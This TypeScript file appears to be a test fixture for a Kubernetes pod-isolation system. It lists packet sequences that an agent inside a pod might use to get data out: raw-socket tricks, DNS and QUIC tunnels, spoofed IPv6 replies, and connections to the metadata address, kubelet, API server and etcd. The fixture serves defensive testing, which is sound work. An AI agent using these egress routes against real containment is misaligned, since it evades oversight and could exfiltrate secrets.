/**
 * Packets that an agent tries to get out of its pod, and where they go in a pod where nothing holds them. IDs are those of the
 * bypasses in SECURITY.md.
 */

import type { Step } from '../raw-sockets.ts';
import {
  API_SERVER_PORT,
  API_SERVICE_ADDRESSES,
  DNS_SERVICE_ADDRESSES,
  KUBELET_PORT,
  METADATA_ADDRESS,
  NODE_ADDRESSES,
  UPSTREAM_ADDRESSES,
} from './layout.ts';
import type { Flow } from './packets.ts';

const AF_INET = 2;
const AF_INET6 = 10;
const STREAM = 1;
const DATAGRAM = 2;
export const RAW = 3;
export const TCP = 6;
export const UDP = 17;
const UDPLITE = 136;
const ICMP = 1;
const ICMPV6 = 58;
const EXPERIMENT = 253;
const MPTCP = 262;
const SO_BROADCAST = [1, 6, 1] as const;
const SO_BINDTODEVICE = [1, 25, 'eth0'] as const;
const IPV6_FREEBIND = [41, 78, 1] as const;
const MSG_FASTOPEN = 0x20000000;
export const EPERM = 'EPERM';

/** Somebody on the Internet; nobody listens there. */
export const FAR = UPSTREAM_ADDRESSES.at(-1) ?? { ipv4: '', ipv6: '' };
/** Another one, whom no other packets of these go to. */
export const PINGED = UPSTREAM_ADDRESSES.at(-2) ?? { ipv4: '', ipv6: '' };
const [NODE, NODE6] = NODE_ADDRESSES;
const [API, API6] = API_SERVICE_ADDRESSES;
const [, DNS6] = DNS_SERVICE_ADDRESSES;
const ETCD_PORT = 2379;
const NOBODY = '2001:db8::bad';

const family = (address: string) => (address.includes(':') ? AF_INET6 : AF_INET);
const udp = (address: string, port: number): Step[] => [
  ['socket', 'a', family(address), DATAGRAM, 0],
  ['sendto', 'a', 'secret', address, port],
];
const tcp = (address: string, port: number, protocol = 0): Step[] => [
  ['socket', 'a', family(address), STREAM, protocol],
  ['connect', 'a', address, port],
  ['send', 'a', 'secret'],
];
/** A SYN and a FIN at once, from a raw socket: conntrack calls it INVALID, and NAT leaves it alone. */
const INVALID_SEGMENT = `\x30\x39\x01\xbf${'\0'.repeat(8)}\x50\x03\x01\0\0\0\0\0`;

/** An ICMP socket that needs no capability, where the pod's network lets its group have one (net.ipv4.ping_group_range). */
const echoRequest = (protocol: number, type: string, address: string): Step[] => [
  ['socket', 'a', family(address), DATAGRAM, protocol],
  ['sendto', 'a', `${type}\0\0\0\0\x01\0\x01secret`, address, 0],
];

/** What a container does, and what shows that it worked. */
export interface Attack {
  readonly name: string;
  readonly steps: readonly Step[];
  /** Where packets of it go, unless something stops them. */
  readonly to: Flow;
  /** What the kernel says to a step in the injected pod. */
  readonly fails?: readonly [step: number, error: string];
  /** What no container of an injected pod may have: without it the first step fails, and it is not the packet that is held. */
  readonly needs?: 'NET_RAW';
}

/** Which step of an attack it is that sends: the last that names a destination. What comes before is preparation. */
export function sendingStep({ steps }: Attack): number {
  return steps.findLastIndex(([what]) => what === 'connect' || what === 'sendto');
}

const attack = (
  name: string,
  [protocol, address, port]: [number, string, number],
  steps: readonly Step[],
  fails?: Attack['fails'],
): Attack => ({
  name,
  steps,
  to: { protocol, address, port },
  ...(fails === undefined ? {} : { fails }),
});
/** From a raw socket. */
const raw = (name: string, to: [number, string, number], steps: readonly Step[]): Attack => ({
  ...attack(name, to, steps, [0, EPERM]),
  needs: 'NET_RAW',
});
const overUDP = (name: string, address: string, port: number, fails?: Attack['fails']) =>
  attack(name, [UDP, address, port], udp(address, port), fails);
/** A TCP connection with bytes on it. */
export const overTCP = (name: string, address: string, port: number) =>
  attack(name, [TCP, address, port], tcp(address, port));

export const ATTACKS: readonly Attack[] = [
  overUDP('B3 UDP', FAR.ipv4, 9, [1, EPERM]),
  overUDP('B3 UDP over IPv6', FAR.ipv6, 9),
  overUDP('B3 QUIC', FAR.ipv4, 443, [1, EPERM]),
  overUDP('B3 QUIC over IPv6', FAR.ipv6, 443),
  overUDP('B3 multicast', '224.0.0.251', 5353),
  overUDP('B3 UDP to the node', NODE, 9),
  attack('B3 multicast over IPv6', [UDP, 'ff02::fb', 5353], udp('ff02::fb%eth0', 5353)),
  attack(
    'B3 UDP in fragments',
    [UDP, FAR.ipv4, 10],
    [
      ['socket', 'a', AF_INET, DATAGRAM, 0],
      ['sendto', 'a', 'x'.repeat(6000), FAR.ipv4, 10],
    ],
  ),
  attack(
    'B3 UDP-Lite',
    [UDPLITE, FAR.ipv4, 11],
    [
      ['socket', 'a', AF_INET, DATAGRAM, UDPLITE],
      ['sendto', 'a', 'secret', FAR.ipv4, 11],
    ],
  ),
  attack('B3 UDP from an IPv6 socket to IPv4', [UDP, FAR.ipv4, 12], udp(`::ffff:${FAR.ipv4}`, 12)),
  attack(
    'B3 UDP from a socket bound to the interface',
    [UDP, FAR.ipv4, 13],
    [
      ['socket', 'a', AF_INET, DATAGRAM, 0],
      ['option', 'a', ...SO_BINDTODEVICE],
      ['sendto', 'a', 'secret', FAR.ipv4, 13],
    ],
  ),
  attack(
    'B3 broadcast',
    [UDP, '255.255.255.255', 67],
    [
      ['socket', 'a', AF_INET, DATAGRAM, 0],
      ['option', 'a', ...SO_BROADCAST],
      ['sendto', 'a', 'secret', '255.255.255.255', 67],
    ],
  ),
  attack(
    "B3 an answer under somebody else's IPv6 address",
    [UDP, NOBODY, 4444],
    [
      ['socket', 'x', AF_INET6, DATAGRAM, 0],
      ['option', 'x', ...IPV6_FREEBIND],
      ['bind', 'x', NOBODY, 4444],
      ['socket', 'b', AF_INET6, DATAGRAM, 0],
      ['bind', 'b', '::', 9999],
      ['sendto', 'x', 'hello', '::1', 9999],
      ['receive', 'b'],
      ['sendto', 'b', 'secret', NOBODY, 4444],
    ],
  ),
  attack(
    'B3 ICMP from a socket that needs no capability',
    [ICMP, PINGED.ipv4, 0],
    echoRequest(ICMP, '\x08', PINGED.ipv4),
    [1, EPERM],
  ),
  attack(
    'B3 ICMPv6 from a socket that needs no capability',
    [ICMPV6, PINGED.ipv6, 0],
    echoRequest(ICMPV6, '\x80', PINGED.ipv6),
  ),
  overTCP('B3 TCP', FAR.ipv4, 443),
  overTCP('B3 TCP over IPv6', FAR.ipv6, 443),
  overTCP('B3 TCP to any port', FAR.ipv4, 22),
  overTCP('B3 TCP to any port over IPv6', FAR.ipv6, 22),
  attack(
    'B3 TCP from a socket bound to the interface',
    [TCP, FAR.ipv4, 446],
    [
      ['socket', 'a', AF_INET, STREAM, 0],
      ['option', 'a', ...SO_BINDTODEVICE],
      ['connect', 'a', FAR.ipv4, 446],
    ],
  ),
  attack('B3 Multipath TCP', [TCP, FAR.ipv4, 444], tcp(FAR.ipv4, 444, MPTCP)),
  attack(
    'B3 TCP Fast Open',
    [TCP, FAR.ipv4, 445],
    [
      ['socket', 'a', AF_INET, STREAM, 0],
      ['sendto', 'a', 'secret', FAR.ipv4, 445, MSG_FASTOPEN],
    ],
  ),
  raw(
    'B1 an INVALID segment from a raw socket',
    [TCP, FAR.ipv4, 447],
    [
      ['socket', 'a', AF_INET, RAW, TCP],
      ['sendto', 'a', INVALID_SEGMENT, FAR.ipv4, 0],
    ],
  ),
  raw(
    'B1 a raw socket of a protocol of its own',
    [EXPERIMENT, FAR.ipv4, 0],
    [
      ['socket', 'a', AF_INET, RAW, EXPERIMENT],
      ['sendto', 'a', 'secret', FAR.ipv4, 0],
    ],
  ),
  raw(
    'B1 ICMP from a raw socket',
    [ICMP, FAR.ipv4, 0],
    [
      ['socket', 'a', AF_INET, RAW, ICMP],
      ['sendto', 'a', '\x08\x00\xf7\xfd\x00\x01\x00\x01', FAR.ipv4, 0],
    ],
  ),
  raw(
    'B1 ICMPv6 from a raw socket',
    [ICMPV6, FAR.ipv6, 0],
    [
      ['socket', 'a', AF_INET6, RAW, ICMPV6],
      ['sendto', 'a', '\x80\x00\x00\x00\x00\x01\x00\x01', FAR.ipv6, 0],
    ],
  ),
  overUDP('B4 DNS to a server of its choice', FAR.ipv4, 53),
  overUDP('B4 DNS to a server of its choice over IPv6', FAR.ipv6, 53),
  overUDP("B4 DNS to the cluster's server over IPv6", DNS6, 53),
  overTCP('B3 DNS over TCP', FAR.ipv4, 53),
  overTCP('B3 DNS over TCP over IPv6', FAR.ipv6, 53),
  overTCP('B3 DNS over TLS', FAR.ipv4, 853),
  overTCP('B3 DNS over TLS over IPv6', FAR.ipv6, 853),
  overUDP('B3 DNS over QUIC', FAR.ipv4, 853),
  overTCP('B12 the metadata address', METADATA_ADDRESS, 80),
  overUDP('B12 the metadata address over UDP', METADATA_ADDRESS, 80),
  overTCP('B15 the kubelet', NODE, KUBELET_PORT),
  overTCP('B15 the kubelet over IPv6', NODE6, KUBELET_PORT),
  overTCP('B15 the API server on its node', NODE, API_SERVER_PORT),
  overTCP('B15 the API server on its node over IPv6', NODE6, API_SERVER_PORT),
  overTCP('B15 the API server by its Service', API, 443),
  overTCP('B15 the API server by its Service over IPv6', API6, 443),
  overTCP('B15 etcd', NODE, ETCD_PORT),
];
